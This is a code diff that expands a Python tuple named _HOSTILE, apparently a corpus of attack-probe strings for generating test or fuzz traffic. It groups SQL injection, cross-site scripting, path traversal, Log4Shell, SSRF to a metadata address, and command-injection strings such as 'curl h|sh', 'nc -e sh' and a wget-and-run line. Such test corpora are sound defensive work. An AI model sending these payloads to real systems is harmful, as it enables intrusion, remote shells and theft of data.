@@ -38,11 +38,21 @@ _AGENTS = (
     "okhttp/4.{0}",
 )
 _HOSTILE = (
-    "' or '1'='1", '" and 1=2--', "1; drop table x", "union all select null,null", "<svg onload=alert(1)>",
-    "<a href=x>", "javascript:x", "../../../etc/shadow", "..\\..\\windows\\win.ini", "${jndi:ldap://a/b}", "{{3*3}}",
-    "<?php echo 1 ?>", "; ls -la", "| id", "$(uname)", "`whoami`", "%0d%0aX: y", "file:///etc/hosts", "\\x3c",
-    "http://127.0.0.1/", 'O:3:"abc":0:{}', "\\u0027", "&#x3c;", "/*!50000 x*/", "%252e%252e", "\0",
-    "waitfor delay '0:0:5'", "sleep(5)", "=cmd|' /C calc'!A0",
+    # SQL
+    "' or '1'='1", '" and 1=2--', "1; drop table x", "union all select null,null", "waitfor delay '0:0:5'",
+    "' group by x having 1<2", "admin'#", "1 order by 9 desc", "extractvalue(1,concat(0x7e,version()))", "sleep(5)",
+    "xp_cmdshell 'x'", "/*!50000 x*/", "select @@version", "insert into t values(1)", "') or (1=1", '{"$ne":null}',
+    # Scripts and markup
+    "<svg onload=alert(1)>", "<a href=x>", "javascript:x", "<script src=//h/x.js></script>", "<img src=x onerror=f()>",
+    "document.cookie", "<iframe srcdoc=x>", "expression(x)", "eval(atob('eA'))", "&#x3c;", "&gt;", "\\u0027", "\\x3c",
+    # Commands and code
+    "; ls -la", "| id", "$(uname)", "`whoami`", "&& wget http://h/x -O-", "/bin/bash -i", "powershell -enc x",
+    "cat$IFS/etc/hosts", "curl h|sh", "nc -e sh", "<?php echo 1 ?>", "system('id')", "base64_decode(x)", "<%= x %>",
+    "${jndi:ldap://a/b}", "java.lang.Runtime", "require('child_process')", "__import__('os')", "process.env", "{{3*3}}",
+    'O:3:"abc":0:{}', "=cmd|' /C calc'!A0",
+    # Files, headers and addresses
+    "../../../etc/shadow", "..\\..\\windows\\win.ini", "file:///etc/hosts", "php://filter/read=x", "%252e%252e", "\0",
+    "WEB-INF/web.xml", ".git/config", "%0d%0aX: y", "http://127.0.0.1/", "http://169.254.169.254/",
 )  # fmt: skip
 _SAMPLE = SAMPLE.decode("ascii").split("\n")
 
